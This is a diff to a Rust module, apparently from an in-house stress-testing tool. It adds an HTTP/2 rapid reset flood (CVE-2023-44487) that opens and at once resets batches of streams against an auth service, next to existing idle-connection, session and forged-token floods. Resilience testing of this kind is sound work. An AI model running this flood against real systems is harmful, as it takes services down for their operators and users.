@@ -1,11 +1,11 @@
-//! Floods of connections that send nothing, of requests under one session, and of forged service tokens.
+//! Floods of connections that send nothing, of requests under one session, of forged service tokens, and of streams.
 
 use std::{sync::Arc, time::Duration};
 
 use tokio::time::sleep;
 
 use super::Attacker;
-use crate::attack::wire::{Connection, client};
+use crate::attack::wire::{Connection, Http2, client, frames};
 
 const IDLE_CONNECTIONS: u32 = 5000;
 const SESSION_REQUESTS: u32 = 600;
@@ -15,6 +15,13 @@ const REPEAT_DELAY: Duration = Duration::from_secs(1);
 /// The pause of a worker between two tokens: some 1 600 requests a second, which leaves enough of the machine to the
 /// customers.
 const TOKEN_DELAY: Duration = Duration::from_millis(10);
+const RESETTING_CONNECTIONS: u32 = 10;
+/// The number of streams of a batch, and the interval between two batches.
+const BATCH_SIZE: u32 = 100;
+const BATCH_INTERVAL: Duration = Duration::from_millis(100);
+const RECONNECT_DELAY: Duration = Duration::from_millis(100);
+/// The largest stream id that rapid resets use on a connection.
+const MAX_STREAM_ID: u32 = 1 << 30;
 
 /// Holds connections at every entrance. Over TLS, every other one completes the handshake first.
 pub async fn idle(attacker: Arc<Attacker>) {
@@ -76,6 +83,32 @@ pub async fn tokens(attacker: Arc<Attacker>) {
                     sleep(TOKEN_DELAY).await;
                 }
             }
+        })
+        .await;
+}
+
+/// HTTP/2 rapid reset (CVE-2023-44487): streams are opened and reset at once, so they never count as concurrent.
+pub async fn rapid_resets(attacker: Arc<Attacker>) {
+    attacker
+        .repeat(RESETTING_CONNECTIONS, RECONNECT_DELAY, |attacker, _| async move {
+            let Ok(connection) = Http2::open(&attacker, &attacker.entrances.iam).await else { return };
+            let block = frames::call(&connection.authority, "/auth.v1.AuthService/Whoami");
+            let mut begun = 0;
+            connection
+                .drive(|| {
+                    let streams = (begun..begun + BATCH_SIZE).map(|number| number * 2 + 1);
+                    let bytes: Vec<u8> = streams
+                        .flat_map(|stream| [frames::headers(stream, &block), frames::reset(stream)].concat())
+                        .collect();
+                    begun += BATCH_SIZE;
+                    let goes_on = begun < MAX_STREAM_ID;
+                    attacker.has_sent(BATCH_SIZE.into());
+                    async move {
+                        sleep(BATCH_INTERVAL).await;
+                        goes_on.then_some(bytes)
+                    }
+                })
+                .await;
         })
         .await;
 }
